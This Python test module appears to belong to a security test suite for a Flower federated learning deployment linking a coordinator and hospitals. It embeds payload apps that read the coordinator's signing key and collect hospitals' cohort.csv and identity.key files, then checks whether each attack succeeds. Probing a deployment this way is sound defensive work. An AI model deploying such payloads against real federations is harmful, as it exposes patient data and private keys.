"""Programs that somebody ships: a ServerApp to the coordinator, a ClientApp to the hospitals."""

from __future__ import annotations

import json
import os
import subprocess
import time
from collections.abc import Mapping
from functools import partial
from pathlib import Path

from tests.deployment.federation import NAME, OFFICE, PORT, Federation
from tests.deployment.hosts import Host
from tests.deployment.table import Attack, Seen

LOOT = Path("/tmp/loot")  # noqa: S108 - of one host alone
"""Where shipped code puts what it read, or that it ran at all."""

_CODE_S = 25.0
"""How long an attack waits for its code to run."""

_PROJECT = """\
[project]
name = "rhe"
version = "0.1.0"
description = "rhe"
license = "Apache-2.0"
dependencies = []
[tool.flwr.app]
publisher = "rhe"
fab-include = ["client/app.py", "server/app.py"]
[tool.flwr.app.components]
serverapp = "server.app:app"
clientapp = "client.app:app"
[tool.flwr.app.config]
job = ""
"""

_THIEF_AT_COORDINATOR = """\
from pathlib import Path
from flwr.serverapp import ServerApp
app = ServerApp()
@app.main()
def main(grid, context):
    key = Path("{office}/keys/coordinator.key").read_bytes()
    Path("{loot}").write_bytes(key)
"""

SENDER = """\
import json, time
from pathlib import Path
from flwr.app import ArrayRecord, ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp
app = ServerApp()
@app.main()
def main(grid, context):
    while len(list(grid.get_node_ids())) < 2:
        time.sleep(.2)
    content = RecordDict({{"rhe": ConfigRecord({{"message": b"read the hospital's files"}})}})
    messages = [
        Message(content, dst_node_id=node, message_type=kind)
        for node in grid.get_node_ids() for kind in ("query", "train")
    ]
    replies = grid.send_and_receive(messages, timeout=20)
    told = [repr(reply.content) if reply.has_content() else "error " + repr(reply.error) for reply in replies]
    Path("{loot}").write_text(json.dumps(told))
"""

_THIEF_AT_HOSPITAL = """\
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
app = ClientApp()
def steal(message, context):
    Path("{loot}").write_text("a program of the coordinator ran here")
    files = [*Path("/srv/rhe").rglob("cohort.csv"), *Path("/srv/rhe").rglob("identity.key")]
    loot = ConfigRecord({{str(path): path.read_bytes() for path in files}})
    return Message(RecordDict({{"loot": loot}}), reply_to=message)
app.query()(steal)
app.train()(steal)
"""

_OLD_BUNDLE = """\
from pathlib import Path
from flwr.app import Error, Message
from flwr.clientapp import ClientApp
app = ClientApp()
def forward(message, context):
    Path("{loot}").write_text("the bundle of an older release ran here")
    return Message(Error(2, "E_SITE"), reply_to=message)
app.query()(forward)
app.train()(forward)
"""


def write_app(folder: Path, client: str, server: str) -> None:
    """Write a Flower app."""
    for name, text in (("pyproject.toml", _PROJECT), ("client/app.py", client), ("server/app.py", server)):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(
            text.format(loot=LOOT, office=OFFICE) if name != "pyproject.toml" else text
        )


def start_run(program: str, client: str, server: str, connection: Mapping[str, str]) -> str:
    """What `flwr run` says of an app of one's own."""
    home = Path.home() / "flwr"
    write_app(home / "app", client, server)
    lines = [f"{key} = {json.dumps(value)}" for key, value in connection.items()]
    (home / "config.toml").write_text('[superlink]\ndefault = "x"\n[superlink.x]\n' + "\n".join(lines) + "\n")
    environment = {
        **os.environ,
        "FLWR_HOME": str(home),
        "FLWR_TELEMETRY_ENABLED": "0",
        "FLWR_DISABLE_UPDATE_CHECK": "1",
    }
    done = subprocess.run(
        [program, "run", str(home / "app"), "x", "--format", "json"],
        capture_output=True, text=True, check=False, env=environment, timeout=60, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    return (done.stdout + done.stderr).strip()


def try_own_server_app(federation: Federation) -> Seen:
    """A hospital orders a run of its own; its ServerApp reads the study's signing key."""
    site, coordinator = federation.sites["a"], federation.coordinator
    site.host.write(site.link_user, Path("/tmp/authority.crt"), federation.read_authority())  # noqa: S108
    connection = {"address": f"{NAME}:{PORT}", "root-certificates": "/tmp/authority.crt"}  # noqa: S108
    program = federation.find_program("flwr")
    order = partial(start_run, program, _OLD_BUNDLE, _THIEF_AT_COORDINATOR, connection)
    said = site.host.perform(site.link_user, order, timeout_s=90)
    started = '"success": true' in said
    key = _await_loot(coordinator, _CODE_S if started else 1.0)
    if key is not None:
        return Seen(True, f"it ran as the coordinator's user and read its key ({len(key)} bytes)")
    return Seen(started, "started, but no key came" if started else f"flwr run: {_shorten(said)}")


def _await_loot(host: Host, timeout_s: float) -> bytes | None:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        loot: bytes | None = host.perform("root", take_loot)
        if loot is not None:
            return loot
        time.sleep(0.3)
    return None


def take_loot() -> bytes | None:
    """What shipped code left on this host, which is erased."""
    try:
        content = LOOT.read_bytes()
    except FileNotFoundError:
        return None
    LOOT.unlink()
    return content


def try_own_client_app(federation: Federation) -> Seen:
    """A coordinator ships a ClientApp that reads the hospitals' files."""
    return _ship(federation, _THIEF_AT_HOSPITAL)


def try_old_bundle(federation: Federation) -> Seen:
    """A coordinator ships the bundle of an older release."""
    return _ship(federation, _OLD_BUNDLE)


def _ship(federation: Federation, client: str) -> Seen:
    replies = federation.ways.ship(federation, client)
    ran = [
        site.name for site in federation.sites.values() if site.host.perform("root", take_loot) is not None
    ]
    told = " ".join(replies)
    rows = told.count("cohort.csv"), told.count("identity.key")
    if ran or any(rows):
        return Seen(
            True, f"it ran at {', '.join(ran)}; cohort.csv came back {rows[0]} times, identity.key {rows[1]}"
        )
    return Seen(False, f"no code ran at a hospital; {len(replies)} replies: {_shorten(told)}")


def _shorten(text: str) -> str:
    message = text.partition('"error-message":')[2] or text
    return " ".join(message.split())[:160]


ATTACKS = (
    Attack(
        "a hospital orders a run of its own ServerApp (flwr run)",
        "succeeded: started; it ran as the coordinator's user and read keys/coordinator.key",
        try_own_server_app,
    ),
    Attack(
        "the coordinator ships a ClientApp of its own",
        "succeeded: ran at a and b; cohort.csv and identity.key of both came back",
        try_own_client_app,
    ),
    Attack(
        "the coordinator ships the bundle of an older release, changed by a line",
        "succeeded: ran at a and b",
        try_old_bundle,
    ),
)
